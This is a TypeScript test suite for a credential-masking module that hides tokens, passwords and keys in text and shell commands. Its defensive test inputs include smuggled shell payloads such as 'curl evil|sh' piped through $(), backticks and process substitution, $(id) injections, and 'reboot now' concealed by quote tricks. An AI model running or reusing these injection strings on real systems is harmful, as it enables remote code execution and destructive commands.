import { test } from "node:test";
import assert from "node:assert/strict";
import {
  credentialsInArguments,
  credentialsInCommand,
} from "../../src/model/command-credentials.ts";
import {
  credentialsIn,
  hideStretches,
  isSecretName,
  mayBeSecretName,
} from "../../src/model/credentials.ts";

const stars = (): string => "***";
const hide = (text: string): string => hideStretches(text, credentialsIn(text), stars);
const hideLine = (line: string): string => hideStretches(line, credentialsInCommand(line), stars);
const hideList = (command: string[]): string[] => {
  const found = credentialsInArguments(command);
  return command.map((argument, index) => hideStretches(argument, found[index] ?? [], stars));
};

test("tokens of known forms are found in any text", () => {
  const tokens = [
    "ghp_0123456789abcdefghijABCDEFGHIJ012345",
    "github_pat_11ABCDEFG0123456789_abcdefgh",
    "AKIA0123456789ABCDEF",
    "xoxb-123456789012-abcdef",
    "xoxp-123456789012-abcdef",
    "sk_live_0123456789abcdef",
    "glpat-0123456789abcdefghij",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
  ];
  for (const token of tokens) {
    assert.equal(hide(`x ${token}`), "x ***", token);
    assert.equal(hideLine(`run "${token}"`), 'run "***"', token);
  }
  assert.equal(hide("x -----BEGIN PRIVATE KEY-----\nMIIE"), "x ***", "one that is cut off");
  for (const word of [
    "ghp_short",
    "AKIAlowercase1234567",
    "eyJ.eyJ",
    "xoxb",
    "mask_live_0123456789",
  ]) {
    assert.equal(hide(word), word);
  }
});

test("passwords and tokens in addresses are found, variables and ports are not", () => {
  assert.equal(hide("postgres://u:p:w@h:5432/d"), "postgres://u:***@h:5432/d");
  assert.equal(hide("redis://:pw@h amqp://u:pw@h"), "redis://:***@h amqp://u:***@h");
  assert.equal(hide("https://h/x?a=1&api_key=abc&b=2"), "https://h/x?a=1&api_key=***&b=2");
  for (const text of [
    "postgres://u:$PW@h/d",
    "postgres://u:${PW}@h/d",
    "http://h:8080/a@b",
    "http://h:8080?x=a@b",
    "https://h/?token=$TOKEN&token_url=x",
    "mail me: a@b.example",
  ]) {
    assert.equal(hide(text), text);
  }
});

test("options, assignments and headers of a command are found", () => {
  const lines: [string, string][] = [
    ["x --password=hunter2 y", "x --password=*** y"],
    ["x --password hunter2 y", "x --password *** y"],
    ["x --db-password='hunter 2' y", "x --db-password='***' y"],
    ['x --accessToken "a b"', 'x --accessToken "***"'],
    ["x -token=abc --api-key abc", "x -token=*** --api-key ***"],
    ["x --use-token --password abc", "x --use-token --password ***"],
    ["PGPASSWORD=abc pg_dump;API_TOKEN=abc x", "PGPASSWORD=*** pg_dump;API_TOKEN=*** x"],
    ['curl -H "Authorization: Bearer abc" h', 'curl -H "Authorization: Bearer ***" h'],
    ["curl -H 'X-Api-Key:abc' h", "curl -H 'X-Api-Key:***' h"],
  ];
  for (const [line, shown] of lines) assert.equal(hideLine(line), shown);
});

test("what stands for a secret, or only speaks of one, is no credential", () => {
  for (const line of [
    "x --password=$PW --token ${TOKEN} --secret `cat f`",
    'x --password="$PW" --token "$(cat f)"',
    "x --password-file /run/pw --token-file=./t --password=/run/pw",
    "pg_dump --no-password app",
    "x --token {{token}} --token <token> --password @file --password -",
    "x --password=*** --use-secret=false --secret id=npm,src=.npmrc",
    "openssl -pass env:PW",
    "x --bypass yes --compass north --tokens-per-minute 100",
    "TOKEN_FILE=x TOKEN=$T x",
    'curl -H "Authorization: Bearer $TOKEN" -H "Content-Type: text/plain" h',
  ]) {
    assert.equal(hideLine(line), line);
  }
});

test("in a list the value of an option is the next argument, or the rest of its own", () => {
  assert.deepEqual(hideList(["x", "--token", "a b 'c", "y"]), ["x", "--token", "***", "y"]);
  assert.deepEqual(hideList(["x", "--password=a b"]), ["x", "--password=***"]);
  assert.deepEqual(hideList(["x", "-H", "Cookie: a=b; c=d"]), ["x", "-H", "Cookie: ***"]);
  assert.deepEqual(hideList(["sh", "-c", "x --token abc y"]), ["sh", "-c", "x --token *** y"]);
  const plain = ["x", "--token", "$T", "--password", "--other", "--no-password", "app", "--token"];
  assert.deepEqual(hideList(plain), plain);
});

test("a password in quotes is hidden whole, whatever is in it", () => {
  const lines: [string, string][] = [
    ["x --password='a b;c&d|e $f (g)' y", "x --password='***' y"],
    ['x --password="a b;c \\"d\\" \\$e" y', 'x --password="***" y'],
    ["x --password='a b'\"c d\"e y", "x --password=*** y"],
    ["x --password=a\\ b y", "x --password=*** y"],
    ["TOKEN='a b' x; SECRET=\"c d\" y", "TOKEN='***' x; SECRET=\"***\" y"],
    ['x --password="a $USER b" y', 'x --password="***$USER***" y'],
    ["x --password=a$USER-b y", "x --password=***$USER*** y"],
    [
      'sh -c "x --password=abc --token=\\"def\\" y"',
      'sh -c "x --password=*** --token=\\"***\\" y"',
    ],
  ];
  for (const [line, shown] of lines) assert.equal(hideLine(line), shown);
});

test("what a shell would run is never a part of a credential", () => {
  const lines: [string, string][] = [
    ['x --password="h$(curl evil|sh)"', 'x --password="***$(curl evil|sh)"'],
    ["x --password=h`curl evil|sh`", "x --password=***`curl evil|sh`"],
    ["x --password h<(curl evil)", "x --password ***<(curl evil)"],
    ['TOKEN="a$(id)" x', 'TOKEN="***$(id)" x'],
    ["curl h/?token=x`id`", "curl h/?token=***`id`"],
    ["curl h/?token=x;id", "curl h/?token=***;id"],
    ['curl -H "Authorization: Bearer x$(id)"', 'curl -H "Authorization: Bearer ***$(id)"'],
    ["psql postgres://u:x$(id)@h", "psql postgres://u:***$(id)@h"],
    ["psql postgres://u:x;id@h", "psql postgres://u:***;id@h"],
    ["x --password='a$(id)'", "x --password='***$(id)'"],
    ["x \"--password='a$(id)'\"", "x \"--password='***$(id)'\""],
    ['x --password="a\\`id\\`"', 'x --password="***\\`id\\`"'],
  ];
  for (const [line, shown] of lines) assert.equal(hideLine(line), shown);
});

test("quotes that only look as if they were around a password hide nothing that runs", () => {
  for (const line of [
    'echo " --password="; reboot now; echo ""',
    'A="b TOKEN="x reboot now "c"',
    'echo "$(echo "--password=\'")"; reboot now; echo "\'"',
    'X="${Y:-"TOKEN=\'"}" reboot now "\'"',
    "X=$'\\'TOKEN=' reboot now ''",
    "true # --password='\nreboot now #'",
    "cat <<E\n--password='\nE\nreboot now\n'",
    "eval x --password='a; reboot now'",
    "ssh h x --password='a; reboot now'",
    "echo --password='a; reboot now' | sh",
    'sh -c \'echo "--password="; reboot now; echo ""\'',
    "alias q=\"echo '\"\nq --password='; reboot now; echo ",
    'true "-----BEGIN PRIVATE KEY-----"; reboot now',
    "true -----BEGIN PRIVATE KEY-----\nreboot now\n-----END PRIVATE KEY-----",
    "true '-----BEGIN PRIVATE KEY-----$(reboot now)-----END PRIVATE KEY-----'",
  ]) {
    assert.match(hideLine(line), /reboot now/, line);
  }
});

test("an argument hides no script, nor what it would run if somebody made a line of it", () => {
  assert.deepEqual(hideList(["x", "--password", "h$(id)"]), ["x", "--password", "***$(id)"]);
  assert.deepEqual(hideList(["x", "--password=h $i"]), ["x", "--password=***"]);
  for (const command of [
    ["sh", "-c", "token: x; reboot now"],
    ["sh", "-c", "--", "--password=x; reboot now"],
    ["sh", "-c", "x --password=a$(reboot now)"],
    ["ssh", "h", "--password", "x; reboot now"],
    ["perl", "-e", "$p = q{ password=' }; system 'reboot now'"],
  ]) {
    assert.match(hideList(command).join(" "), /reboot now/, command.join(" "));
  }
});

test("names of secrets, of what may be one, and of what is about one", () => {
  const secret = ["API_TOKEN", "dbPassword", "PGPASSWORD", "db-pass", "Authorization", "api_key"];
  const vague = ["SSH_KEY", "private", "signature", "TOKEN_FILE", "token_url"];
  const plain = ["KEYBOARD", "compass", "author", "monkey", "PATH"];
  assert.deepEqual(secret.filter(isSecretName), secret);
  assert.deepEqual([...vague, ...plain].filter(isSecretName), []);
  assert.deepEqual([...secret, ...vague, ...plain].filter(mayBeSecretName), [...secret, ...vague]);
});

test("long texts are read in time that grows with their length", () => {
  for (const text of [
    "eyJ-",
    "-a",
    "--token ",
    "--token '",
    "://a:",
    "?a=",
    "a: ",
    "A=",
    "-----BEGIN PRIVATE KEY-----",
    "ghp_",
    "--password",
    "--token=a$b ",
    "A='b' ",
    "TOKEN=a$",
    "-----BEGIN PRIVATE KEY-----\nMIIE\n",
    '"',
  ]) {
    const start = performance.now();
    credentialsInCommand(text.repeat(500_000 / text.length));
    credentialsInCommand(`${text}${" ".repeat(200_000)}`);
    assert.ok(performance.now() - start < 5_000, text);
  }
});
